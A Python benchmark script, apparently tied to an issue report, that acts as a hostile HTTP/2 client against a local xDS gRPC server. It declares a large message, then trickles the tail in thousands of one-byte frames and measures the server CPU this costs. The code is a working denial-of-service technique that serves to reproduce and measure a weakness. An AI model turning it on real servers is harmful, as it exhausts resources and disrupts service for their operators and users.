#!/usr/bin/env python3
"""A hostile client's partial gRPC request, and the server CPU it costs (issue 20, item 1).

Declares a message just under 4 MiB on an ADS stream, sends 3.9 MiB of it, then the rest
in 1-byte DATA frames; prints the server's CPU time (from /proc) over the whole run.
Usage: bench/partial-request.py XDS_PORT SERVER_PID [ONE_BYTE_FRAMES] [CLIENTS]
"""
import os
import socket
import struct
import sys
import threading
import time

PATH = b"/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"


def frame(ty, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ty, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def client(port, one_byte_frames, done):
    s = socket.create_connection(("127.0.0.1", port))
    # Drain whatever the server says, so it never waits on us.
    def drain():
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass
    threading.Thread(target=drain, daemon=True).start()
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    block = literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":path", PATH)
    s.sendall(frame(1, 4, 1, block))
    declared = 4_000_000
    body = b"\x00" + struct.pack(">I", declared) + b"x" * (3_900_000 - 5)
    for i in range(0, len(body), 16384):
        s.sendall(frame(0, 0, 1, body[i:i + 16384]))
    ones = b"".join(frame(0, 0, 1, b"x") for _ in range(one_byte_frames))
    s.sendall(ones)
    done.append(len(body) + len(ones))
    time.sleep(0.5)
    s.close()


def main():
    port, pid = int(sys.argv[1]), int(sys.argv[2])
    one_byte_frames = int(sys.argv[3]) if len(sys.argv) > 3 else 20_000
    clients = int(sys.argv[4]) if len(sys.argv) > 4 else 1
    before, started = cpu_seconds(pid), time.monotonic()
    done = []
    threads = [threading.Thread(target=client, args=(port, one_byte_frames, done)) for _ in range(clients)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    # Until the server has finished what it was sent: its CPU time stops moving.
    last = cpu_seconds(pid)
    while True:
        time.sleep(0.5)
        now = cpu_seconds(pid)
        if now - last < 0.02:
            break
        last = now
    cpu = now - before
    print(f"{clients} client(s), {one_byte_frames} one-byte DATA frames each ({one_byte_frames * 10 // 1000} KB on the wire) "
          f"after 3.9 MB: server CPU {cpu:.2f} s over {time.monotonic() - started:.1f} s")


if __name__ == "__main__":
    main()
